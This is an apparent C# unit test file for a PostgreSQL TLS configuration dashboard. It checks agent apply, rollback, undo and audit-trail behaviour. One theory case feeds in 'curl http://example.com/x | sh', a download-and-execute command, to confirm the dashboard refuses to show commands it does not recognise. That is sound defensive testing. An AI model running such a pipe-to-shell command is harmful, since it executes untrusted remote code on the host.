using System.Collections.Immutable;
using System.Text;
using Microsoft.Extensions.Time.Testing;
using PgTlsDashboard.Core.Agents;
using PgTlsDashboard.Core.Applying;
using PgTlsDashboard.Core.Applying.Commit;
using PgTlsDashboard.Core.Applying.Reading;
using PgTlsDashboard.Core.Changes.Plans;
using PgTlsDashboard.Core.Changes.Records;
using PgTlsDashboard.Core.Hba.Regions;
using PgTlsDashboard.Core.Host;
using PgTlsDashboard.Core.Inventory;
using PgTlsDashboard.Core.Planning;
using PgTlsDashboard.Core.Planning.Effects;
using PgTlsDashboard.Core.Planning.Recipes;
using PgTlsDashboard.Core.Probe.Facts;

namespace PgTlsDashboard.Core.Tests.Applying;

/// <summary>A plan through its agent, and what the dashboard makes of the wire afterwards.</summary>
public sealed class PlanRunTests
{
    private static readonly Guid s_agent = Guid.NewGuid();
    private static readonly Guid s_entry = Guid.NewGuid();
    private readonly Target _target = FakeStores.Of(s_agent);
    private readonly FakeStores _store;

    public PlanRunTests() => _store = new(_target);

    [Fact]
    public async Task A_promised_certificate_that_is_not_served_undoes_the_change()
    {
        var agent = Agent(new ApplyOutcome.RolledBack(s_entry, "After the reload the server does not serve the new certificate.", []));
        var outcome = await Run(agent, new DeadServer(reachable: true), "AB12CD34EF56AB78CD90");

        Assert.IsType<ApplyOutcome.RolledBack>(outcome);
        var settled = Assert.Single(agent.Settled);
        Assert.False(settled.Keep);
        Assert.Equal([FindingCode.EffectContradicted, FindingCode.ServerLog], settled.Causes.Select(cause => cause.Code));
        Assert.Contains("The server's log says: “LOG: it was not reloaded”", settled.Causes[0].Message, StringComparison.Ordinal);
        Assert.Equal(EffectState.Contradicted, Assert.Single(outcome.Effects).State);
    }

    [Fact]
    public async Task A_server_out_of_reach_leaves_the_change_unproven_and_the_agent_is_told_nothing()
    {
        var agent = Agent(new ApplyOutcome.Applied(s_entry));
        var outcome = await Run(agent, new DeadServer(reachable: false), "AB12CD34EF56AB78CD90");

        Assert.Equal(s_entry, Assert.IsType<ApplyOutcome.Unproven>(outcome).JournalId);
        Assert.Empty(agent.Settled);
        Assert.Equal(EffectState.NotObserved, Assert.Single(outcome.Effects).State);
        Assert.Contains(outcome.Notes, note => note.Code == FindingCode.Unproven && note.Remedy is not null);
    }

    [Fact]
    public async Task A_plan_without_a_promise_is_settled_at_once()
    {
        var agent = Agent(new ApplyOutcome.Applied(s_entry));
        Assert.IsType<ApplyOutcome.Applied>(await Run(agent, new DeadServer(reachable: false), null));
        Assert.True(Assert.Single(agent.Settled).Keep);
    }

    [Fact]
    public async Task A_line_that_breaks_is_answered_by_the_journal_of_the_agent()
    {
        var agent = new FakeAgent
        {
            Apply = _ => throw new IOException("The pipe is gone."),
            Settle = _ => new ApplyOutcome.Applied(s_entry)
        };
        agent.Journal =
            [Entry(JournalState.RolledBack)
                with { Because = "The agent was stopped before the change was complete.", EndedBy = "recovery" }];
        var outcome = Assert.IsType<ApplyOutcome.RolledBack>(await Run(agent, new DeadServer(reachable: true), null));
        Assert.Equal("The agent was stopped before the change was complete.", outcome.Because);
        Assert.Empty(agent.Settled);
    }

    [Fact]
    public async Task A_line_that_breaks_before_anything_was_begun_is_not_known()
    {
        var agent = new FakeAgent { Apply = _ => throw new IOException("The pipe is gone.") };
        var unheard = Assert.IsType<ApplyOutcome.NotKnown>(await Run(agent, new DeadServer(reachable: true), null));
        Assert.Equal(FindingCode.AgentLineBroken, Assert.Single(unheard.Findings).Code);
    }

    [Fact]
    public async Task An_apply_whose_asker_left_is_settled_all_the_same()
    {
        var agent = new FakeAgent
        {
            Apply = _ => throw new OperationCanceledException(),
            Settle = _ => new ApplyOutcome.Applied(s_entry),
            Journal = [Entry(JournalState.Applied)],
        };
        Assert.IsType<ApplyOutcome.Applied>(await Run(agent, new DeadServer(reachable: true), null));
        Assert.True(Assert.Single(agent.Settled).Keep);
    }

    [Theory]
    [InlineData("curl http://example.com/x | sh", false)]
    [InlineData("the reload", true)]
    [InlineData("sudo install a b", true)]
    public async Task Only_a_command_that_this_program_knows_is_shown(string command, bool known)
    {
        if (command == "the reload") command = ReloadCommand.Of(_target.Files);
        var agent = new FakeAgent { Apply = _ => Task.FromResult<ApplyOutcome>(new ApplyOutcome.Waiting(s_entry, command)) };
        var outcome = await Run(agent, new DeadServer(reachable: true), null);
        Assert.Equal(known ? command : "sudo install a b", Assert.IsType<ApplyOutcome.Waiting>(outcome).Command);
        Assert.Equal(known ? [] : [FindingCode.AgentUnsound], outcome.Notes.Select(note => note.Code));
    }

    [Fact]
    public async Task An_undo_whose_answer_nobody_heard_is_not_known_and_never_a_refusal()
    {
        var agents = new FakeAgents(s_agent, new FakeAgent { Undo = _ => throw new IOException("The pipe is gone.") });
        var ofTargets = new TargetAgents(agents, _store);
        var entries = new EntryRun(ofTargets, null!, null!, Mirror.Of(agents, ofTargets, _store));
        var outcome = await entries.UndoAsync(Entry(JournalState.Applied), _target, seen: null, progress: null, CancellationToken.None);
        Assert.Equal(FindingCode.AgentLineBroken, Assert.Single(Assert.IsType<ApplyOutcome.NotKnown>(outcome).Findings).Code);
    }

    [Fact]
    public async Task A_history_that_cannot_be_written_is_a_note_and_never_a_failure()
    {
        var agent = new FakeAgent { Journal = [Entry(JournalState.Applied)] };
        var agents = new FakeAgents(s_agent, agent);
        var ofTargets = new TargetAgents(agents, _store);
        var entries = new EntryRun(ofTargets, null!, null!, Mirror.Of(agents, ofTargets, _store));
        _store.IsFull = true;

        Assert.Equal(FindingCode.HistoryMissing, (await entries.SyncAsync(_target))!.Code);
        Assert.Equal(FindingCode.AuditMissing, (await Mirror.Audit(_store).WriteAsync("somebody", "apply", _target.Id, "TLS"))!.Code);
        _store.IsFull = false;
        Assert.Null(await entries.SyncAsync(_target));
        Assert.Null(await Mirror.Audit(_store).WriteAsync("somebody", "apply", _target.Id, "TLS"));
    }

    [Fact]
    public async Task What_an_agent_undid_by_itself_is_in_the_audit_trail_once()
    {
        var agent = new FakeAgent
        {
            Journal = [Entry(JournalState.RolledBack) with { Because = "Nobody confirmed it by 09:05.", EndedBy = "timer" }]
        };
        var agents = new FakeAgents(s_agent, agent);
        var ofTargets = new TargetAgents(agents, _store);
        var mirror = Mirror.Of(agents, ofTargets, _store);

        await mirror.SyncAsync(agents.All[0], _target.Id, CancellationToken.None);
        await mirror.SyncAsync(agents.All[0], _target.Id, CancellationToken.None);
        await Mirror.Of(agents, ofTargets, _store).SyncAsync(agents.All[0], _target.Id, CancellationToken.None);

        var line = Assert.Single(_store.Audit);
        Assert.Equal(("timer", "rollback"), (line.Actor, line.Action));
        Assert.Contains("Nobody confirmed it by 09:05.", line.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Where_the_log_cannot_be_read_no_cause_is_guessed()
    {
        var agent = Agent(new ApplyOutcome.RolledBack(s_entry, "It was contradicted.", []), logged: false);
        await Run(agent, new DeadServer(reachable: true), "AB12CD34EF56AB78CD90");

        var cause = Assert.Single(Assert.Single(agent.Settled).Causes);
        Assert.Equal("The server answers N to SSLRequest: it offers no TLS.", cause.Message);
        Assert.Contains("log", cause.Remedy, StringComparison.Ordinal);
    }

    private static FakeAgent Agent(ApplyOutcome settled, bool logged = true) => new()
    {
        Read = request => new()
        {
            Server = null,
            Version = Core.Configuration.PostgresVersion.OfMajor(18),
            Settings = ImmutableSortedDictionary<string, string>.Empty,
            Files = [],
            Directories = [],
            Occupied = [],
            Roots = [],
            ServerAccount = null,
            SystemIdentifier = null,
            Findings = [],
            Log = request.WithLog ? new(logged ? "/log/postgresql.log" : null, logged ? ["LOG: it was not reloaded"] : []) : null,
        },
        Apply = _ => Task.FromResult<ApplyOutcome>(new ApplyOutcome.Applied(s_entry)),
        Settle = _ => settled,
    };

    private Task<ApplyOutcome> Run(FakeAgent agent, IProbe probe, string? fingerprint)
    {
        var agents = new FakeAgents(s_agent, agent);
        var ofTargets = new TargetAgents(agents, _store);
        var time = new FakeTimeProvider { AutoAdvanceAmount = TimeSpan.FromSeconds(10) };
        var run = new PlanRun(ofTargets, new EffectSearch(new WireSearch(probe), null!, time), Mirror.Of(agents, ofTargets, _store),
            TimeProvider.System);
        var plan = Plan() with { Effects = fingerprint is null ? [] : [new Effect.CertificateServed(fingerprint)] };
        return run.RunAsync(plan, _target, new ApplyTerms(), null, CancellationToken.None);
    }

    private SetupPlan Plan() => new()
    {
        Changes = new()
        {
            Id = s_entry,
            TargetId = _target.Id,
            Recipe = "tls-settings",
            Title = "TLS",
            NeedsReload = true,
            Paths = new([]),
            Changes = [new() { Path = "/data/a.conf", Kind = ChangeKind.Modify, BeforeHash = "",
                After = new FileContent.Open([.. Encoding.ASCII.GetBytes("a")]), Mode = UnixFileMode.UserRead }],
        },
        Request = new RecipeRequest.TlsSettings(),
        CreatedAt = DateTimeOffset.UnixEpoch,
        Previews = [],
        Commands = [new("Put the file in place", "sudo install a b")],
        Access = AccessDelta.None,
        Restart = [],
        Findings = [],
        NeedsConfirmation = false,
    };

    private JournalEntry Entry(JournalState state) => new()
    {
        Id = s_entry,
        TargetId = _target.Id,
        Recipe = "tls-settings",
        Title = "TLS",
        At = DateTimeOffset.UnixEpoch,
        State = state,
        PlanId = s_entry,
        Files = [],
    };

    private sealed class DeadServer(bool reachable) : IProbe
    {
        public Task<ProbeReport> ProbeAsync(ProbeRequest request, CancellationToken cancellationToken) =>
            Task.FromResult(new ProbeReport
            {
                Request = request,
                At = DateTimeOffset.UnixEpoch,
                Reachable = reachable,
                SslRequest = Core.Probe.Wire.SslRequestResponse.Refused,
                ConnectElapsed = TimeSpan.Zero,
                NegotiateElapsed = TimeSpan.Zero,
                HandshakeElapsed = TimeSpan.Zero,
                Findings = [],
            });
    }
}
